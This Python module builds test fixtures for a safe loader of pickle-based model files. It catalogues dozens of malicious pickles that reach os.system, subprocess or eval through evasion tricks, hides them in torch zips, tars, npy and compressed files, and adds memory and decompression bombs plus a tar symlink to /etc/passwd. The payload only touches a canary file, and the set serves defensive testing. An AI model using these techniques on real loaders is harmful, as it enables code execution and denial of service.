"""Pickles that run, reach or exhaust: written opcode by opcode, each with the least level that may be given to it."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from functools import cache

import numpy

PROTO = b"\x80\x02"
COMMAND = "touch canary"
"""What the payloads would run; the file it makes is looked for afterwards."""


def text(value: str) -> bytes:
    """A BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """A GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """A REDUCE."""
    return function + b"(" + b"".join(arguments) + b"tR"


SYSTEM = call(name("os", "system"), text(COMMAND))
EVIL = PROTO + SYSTEM + b"."
STORAGE = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu")


def tensor(
    numel: bytes = b"K\x04", offset: bytes = b"K\x00", shape: bytes = b"K\x04\x85", step: bytes = b"K\x01\x85"
) -> bytes:
    """A torch tensor of four numbers, any part of which may lie."""
    empty = call(name("collections", "OrderedDict"))
    return call(
        name("torch._utils", "_rebuild_tensor_v2"), STORAGE + numel + b"tQ", offset, shape, step, b"\x89", empty
    )


def archive(pickle: bytes, *more: tuple[str, bytes], data: bytes = bytes(16), compressed: bool = False) -> bytes:
    """A torch zip around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as out:
        members = [("data.pkl", pickle), ("byteorder", b"little"), ("data/0", data), ("version", b"3\n")]
        for member, content in members:
            out.writestr(zipfile.ZipInfo(f"archive/{member}"), content, compress_type=out.compression)
        for member, content in more:
            out.writestr(zipfile.ZipInfo(member), content)
    return buffer.getvalue()


def tar(*members: tuple[str, bytes], link: str = "") -> bytes:
    """A tar; with a link out of it where one is given."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as out:
        for member, content in members:
            info = tarfile.TarInfo(member)
            info.size = len(content)
            out.addfile(info, io.BytesIO(content))
        if link:
            info = tarfile.TarInfo("pickle")
            info.type, info.linkname = tarfile.SYMTYPE, link
            out.addfile(info)
    return buffer.getvalue()


def _npy(array: object) -> bytes:
    buffer = io.BytesIO()
    numpy.save(buffer, numpy.asarray(array, dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _object_npy(pickle: bytes) -> bytes:
    """An npy of objects whose pickle is `pickle`."""
    whole = _npy([1])
    return whole[: whole.index(b"\n", 10) + 1] + pickle


def _joblib_objects(pickle: bytes) -> bytes:
    """joblib's wrapper of an object array, with a pickle of its own behind it."""
    dtype = call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88") + (
        b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    )
    state = (
        b"}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C")
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x89u"
    return PROTO + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + pickle + b"."


def _duplicate(first: bytes, second: bytes) -> bytes:
    """Two members `data.pkl`."""
    return archive(first, ("archive/data.pkl", second))


def _local_lies(data: bytes) -> bytes:
    """Local headers that name another method, name and size than the directory."""
    return data.replace(b"PK\x03\x04\x14\x00\x00\x00\x00\x00", b"PK\x03\x04\x14\x00\x09\x00\x63\x00")


def _descriptor(pickle: bytes) -> bytes:
    """Members with data descriptors, as a stream writes them, and local sizes of zero."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *arguments: int) -> int:
            raise OSError

        def tell(self) -> int:
            raise OSError

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w") as out:
        for member, content in (
            ("data.pkl", pickle),
            ("byteorder", b"little"),
            ("version", b"3\n"),
            ("data/0", bytes(16)),
        ):
            out.writestr(f"archive/{member}", content)
    return pipe.getvalue()


def _wide(data: bytes) -> bytes:
    """A directory whose end says that its place is in a zip64 record, which lies far beyond the file."""
    at = data.rindex(b"PK\x05\x06")
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, 2**62, 1)
    end = data[at : at + 12] + b"\xff\xff\xff\xff" + b"\xff\xff\xff\xff" + data[at + 20 :]
    return data[:at] + locator + end


MEMO = PROTO + text("os") + b"q\x01" + text("system") + b"q\x02h\x01h\x02\x93" + text(COMMAND) + b"\x85R."
GETATTR = call(name("builtins", "getattr"), name("os", "path"), text("os"))
CHAIN = call(name("builtins", "getattr"), GETATTR, text("system"))

RUNS: dict[str, bytes] = {
    "plain.pkl": EVIL,
    "text-protocol.pkl": b"cos\nsystem\n(S'touch canary'\ntR.",
    "text-protocol.txt": b"cos\nsystem\n(S'touch canary'\ntR.",
    "no-suffix": EVIL,
    "pretends.safetensors": EVIL,
    "pretends.gguf": EVIL,
    "stack-global.pkl": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0ctouch canary\x85R.",
    "computed.pkl": PROTO + call(name("_codecs", "encode"), text("bf"), text("rot_13")) + text("system") + b"\x93" + text("x") + b"\x85R.",
    "memo.pkl": MEMO,
    "memo-swapped.pkl": PROTO + text("os") + b"q\x00" + text("collections") + b"q\x01h\x01" + text("x") + b"0h\x00q\x010h\x01" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.",
    "extension.pkl": b"\x80\x02\x82\x01)R.",
    "extension-registered.pkl": PROTO + call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0\x82\x01" + text(COMMAND) + b"\x85R.",
    "inst.pkl": b"(S'touch canary'\nios\nsystem\n.",
    "obj.pkl": b"(cos\nsystem\nS'touch canary'\no.",
    "newobj-ex.pkl": b"\x80\x04csubprocess\nPopen\n(" + text(COMMAND) + b"t}" + text("shell") + b"\x88s\x92.",
    "newobj.pkl": PROTO + name("subprocess", "Popen") + text(COMMAND) + b"\x85\x81.",
    "build-setstate.pkl": PROTO + name("collections", "OrderedDict") + b")R}" + text("__setstate__") + name("os", "system") + b"s" + b"b" + text(COMMAND) + b"b.",
    "build-class.pkl": PROTO + name("collections", "OrderedDict") + b"}" + text("__reduce__") + name("os", "system") + b"sb.",
    "build-dict.pkl": PROTO + name("torch.nn.modules.linear", "Linear") + b")\x81}" + text("__class__") + name("os", "_wrap_close") + b"sb.",
    "getattr-chain.pkl": PROTO + call(CHAIN, text(COMMAND)) + b".",
    "dotted.pkl": b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93\x8c\x0ctouch canary\x85R.",
    "partial.pkl": PROTO + call(call(name("functools", "partial"), name("os", "system"), text(COMMAND))) + b".",
    "attrgetter.pkl": PROTO + call(call(name("operator", "attrgetter"), text("system")), name("os", "path")) + b".",
    "methodcaller.pkl": PROTO + call(call(name("operator", "methodcaller"), text("system"), text(COMMAND)), name("os", "x")) + b".",
    "itemgetter.pkl": PROTO + call(call(name("operator", "itemgetter"), text("eval")), name("builtins", "__dict__")) + b".",
    "map.pkl": PROTO + call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), b"(" + text(COMMAND) + b"t")) + b".",
    "eval.pkl": PROTO + call(name("__builtin__", "eval"), text("__import__('os').system('touch canary')")) + b".",
    "exec-source.pkl": PROTO + call(name("torch.fx.graph_module", "_exec_with_source"), text("import os"), b"}") + b".",
    "code.pkl": PROTO + call(name("types", "FunctionType"), call(name("types", "CodeType"), b"K\x00")) + b".",
    "marshal.pkl": PROTO + call(name("marshal", "loads"), b"C\x01N") + b".",
    "import.pkl": PROTO + call(name("importlib", "import_module"), text("antigravity")) + b".",
    "runpy.pkl": PROTO + call(name("runpy", "run_path"), text("x.py")) + b".",
    "pip.pkl": PROTO + call(name("pip._internal", "main"), b"](" + text("install") + text("x") + b"e") + b".",
    "download.pkl": PROTO + call(name("torch.hub", "load_state_dict_from_url"), text("http://127.0.0.1/x")) + b".",
    "numpy-load.pkl": PROTO + call(name("numpy", "load"), text("x.npy"), b"N", b"\x88") + b".",
    "joblib-load.pkl": PROTO + call(name("joblib", "load"), text("x.pkl")) + b".",
    "load-from-bytes.pkl": PROTO + call(name("torch.storage", "_load_from_bytes"), b"C" + bytes([len(EVIL)]) + EVIL) + b".",
    "pickle-loads.pkl": PROTO + call(name("_pickle", "loads"), b"C" + bytes([len(EVIL)]) + EVIL) + b".",
    "ordered-dict-overwritten.pkl": PROTO + call(name("collections", "OrderedDict"), text("import os; os.system('x')")) + b".",
    "device-of-a-call.pkl": PROTO + call(name("torch", "device"), SYSTEM) + b".",
    "persistent.pkl": PROTO + SYSTEM + b"Q.",
    "persistent-text.pkl": b"P" + COMMAND.encode() + b"\n0" + SYSTEM + b".",
    "after-frame.pkl": b"\x80\x04\x95\x05\0\0\0\0\0\0\0B\x40\0\0\0" + b"N" * 64 + SYSTEM + b".",
    "broken-after.pkl": PROTO + SYSTEM + b"\xff\xff",
    "concatenated.pkl": PROTO + b"N." + EVIL,
    "trailing-many.pkl": (PROTO + b"N.") * 50 + EVIL,
    "deep.pkl": PROTO + b"N" + b"\x85" * 5000 + b"0" + SYSTEM + b".",
    "late.pkl": PROTO + b"](" + b"K\x01" * 100_000 + b"e0" + SYSTEM + b".",
    "long-names.pkl": PROTO + name("os" + "." * 30_000, "system") + text(COMMAND) + b"\x85R.",
    "scalar-objects.pkl": PROTO + call(name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O8"), b"K\x00", b"K\x01"), SYSTEM) + b".",
    "scalar-object-bytes.pkl": PROTO + call(name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O"), b"K\x00", b"K\x01"), b"C" + bytes([len(EVIL)]) + EVIL) + b".",
    "rebuild-of-a-call.pkl": PROTO + call(name("torch._utils", "_rebuild_parameter"), SYSTEM, b"\x88", b"}") + b".",
    "from-type.pkl": PROTO + call(name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"), b"(" + text(COMMAND) + b"t", b"}") + b".",
    "wrapper-subclass.pkl": PROTO + call(name("torch._utils", "_rebuild_wrapper_subclass"), name("os", "system"), name("torch", "float32"), b")", b")", b"K\x00", b"N", b"N", b"\x89") + b".",
    "hooks.pkl": PROTO + call(name("torch._utils", "_rebuild_tensor_v2"), STORAGE + b"K\x04tQ", b"K\x00", b"K\x04\x85", b"K\x01\x85", b"\x89", SYSTEM) + b".",
    "storage-type.pkl": PROTO + b"(" + text("storage") + name("os", "system") + text("0") + text("cpu") + b"K\x04tQ.",
    "counter-of-a-call.pkl": PROTO + call(name("collections", "Counter"), SYSTEM) + b".",
    "defaultdict-factory.pkl": PROTO + call(name("collections", "defaultdict"), name("os", "getcwd")) + text("a") + text("b") + b"s.",
    "torch.pt": archive(EVIL),
    "torch-deflated.pt": archive(EVIL, compressed=True),
    "torch-second.pt": _duplicate(PROTO + b"}.", EVIL),
    "torch-first.pt": _duplicate(EVIL, PROTO + b"}."),
    "torch-case.pt": archive(PROTO + b"}.", ("archive/DATA.PKL", EVIL)),
    "torch-constants.pt": archive(PROTO + b"}.", ("archive/constants.pkl", EVIL)),
    "torch-descriptor.pt": _descriptor(EVIL),
    "torch-local-lies.pt": _local_lies(archive(EVIL)),
    "torch-after-junk.pt": b"#!/bin/sh\ntouch canary\nexit\n" + archive(EVIL),
    "torch-legacy.pt": PROTO + b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}." + EVIL + PROTO + b"].",
    "torch-tar.pth.tar": tar(("sys_info", PROTO + b"}."), ("pickle", EVIL), ("storages", PROTO + b"K\x00." + PROTO + b"]."), ("tensors", PROTO + b"K\x00.")),
    "tar.tar": tar(("weights/model.pkl", EVIL)),
    "tar-as-text.bin": tar(("notes.txt", EVIL)),
    "pickle.pkl.gz": gzip.compress(EVIL),
    "pickle.pkl.bz2": bz2.compress(EVIL),
    "pickle.pkl.xz": lzma.compress(EVIL),
    "pickle.pkl.z": zlib.compress(EVIL),
    "concatenated.pkl.gz": gzip.compress(PROTO + b"N.") + gzip.compress(EVIL),
    "gzip-in-gzip.pkl.gz": gzip.compress(gzip.compress(EVIL)),
    "joblib-old.pkl": b"ZF" + f"{hex(len(EVIL)):<19}".encode() + zlib.compress(EVIL),
    "objects.npy": _object_npy(EVIL),
    "joblib-objects.joblib": _joblib_objects(EVIL),
}  # fmt: skip
"""What runs code in some loader: none may be called `tensors_only`, and its code never runs here."""


@cache
def exhausting() -> dict[str, bytes]:
    """What costs memory or time, or leads outside: answered, and nothing read beyond it. Made once, for they are large."""
    return {
        "memo-bomb.pkl": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "long4.pkl": b"\x80\x02\x8b\xff\xff\xff\x7f",
        "text-2-63.pkl": b"\x80\x04\x8d" + (2**63).to_bytes(8, "little"),
        "bytes-2-63.pkl": b"\x80\x04\x8e" + (2**63).to_bytes(8, "little"),
        "bytearray-2-63.pkl": b"\x80\x05\x96" + (2**63 - 1).to_bytes(8, "little"),
        "frame-2-63.pkl": b"\x80\x04\x95" + (2**63).to_bytes(8, "little") + b"N.",
        "marks.pkl": b"\x80\x02" + b"(" * 3_000_000 + b".",
        "nones.pkl": b"\x80\x02(" + b"N" * 6_000_000 + b"l.",
        "memoize.pkl": b"\x80\x04N" + b"\x94" * 6_000_000 + b".",
        "dups.pkl": b"\x80\x02](" + b"2" * 3_000_000 + b"e.",
        "tuples.pkl": b"\x80\x02N" + b"\x85" * 2_000_000 + b".",
        "doubling.pkl": b"\x80\x02X\3\0\0\0lol" + b"2\x86" * 60 + b".",
        "doubling-keys.pkl": b"\x80\x02}K\x01" + b"2\x86" * 60 + b"Ns.",
        "doubling-lists.pkl": b"\x80\x02](K\x01e" + b"](g0\ng0\ne".replace(b"g0\n", b"2") * 40 + b".",
        "itself.pkl": b"\x80\x02]q\x00h\x00a.",
        "colliding-keys.pkl": b"\x80\x02}(" + b"".join(b"\x8a\x0b" + (number * (2**61 - 1)).to_bytes(11, "little") + b"N" for number in range(20_000)) + b"u.",
        "globals.pkl": b"".join(b"cm%d\nC\n0" % number for number in range(200_000)) + b"N.",
        "lines.pkl": b"S" + b"a" * 3_000_000,
        "digits.pkl": b"L" + b"9" * 60_000 + b"L\n.",
        "float-digits.pkl": b"F" + b"9" * 60_000 + b"\n.",
        "negative-memo.pkl": b"N0g-1\n.",
        "torch-numel.pt": archive(PROTO + b"}" + text("w") + tensor(b"J\xff\xff\xff\x7f", shape=b"J\xff\xff\xff\x7f\x85") + b"s."),
        "torch-numel-negative.pt": archive(PROTO + b"}" + text("w") + tensor(b"J\xff\xff\xff\xff") + b"s."),
        "torch-stride-negative.pt": archive(PROTO + b"}" + text("w") + tensor(step=b"J\xff\xff\xff\xff\x85") + b"s."),
        "torch-offset.pt": archive(PROTO + b"}" + text("w") + tensor(offset=b"J\xff\xff\xff\x7f") + b"s."),
        "torch-dims.pt": archive(PROTO + b"}" + text("w") + tensor(shape=b"(" + b"K\x7f" * 3000 + b"t") + b"s."),
        "torch-shape-text.pt": archive(PROTO + b"}" + text("w") + tensor(shape=text("abc") + b"\x85") + b"s."),
        "torch-numel-text.pt": archive(PROTO + b"}" + text("w") + tensor(text("many")) + b"s."),
        "torch-numel-huge.pt": archive(PROTO + b"}" + text("w") + tensor(b"\x8a\x08" + b"\xff" * 7 + b"\x7f", shape=b"\x8a\x08" + b"\xff" * 7 + b"\x7f\x85") + b"s."),
        "torch-wide-zip.pt": _wide(archive(PROTO + b"}.")),
        "torch-bomb.pt": archive(PROTO + b"N0" * 30_000_000 + b"N.", compressed=True),
        "gzip-bomb.pkl.gz": gzip.compress(PROTO + b"N0" * 100_000_000 + b"N."),
        "xz-bomb.pkl.xz": lzma.compress(bytes(200_000_000)),
        "tar-link.pth.tar": tar(("sys_info", PROTO + b"}."), link="/etc/passwd"),
    }  # fmt: skip
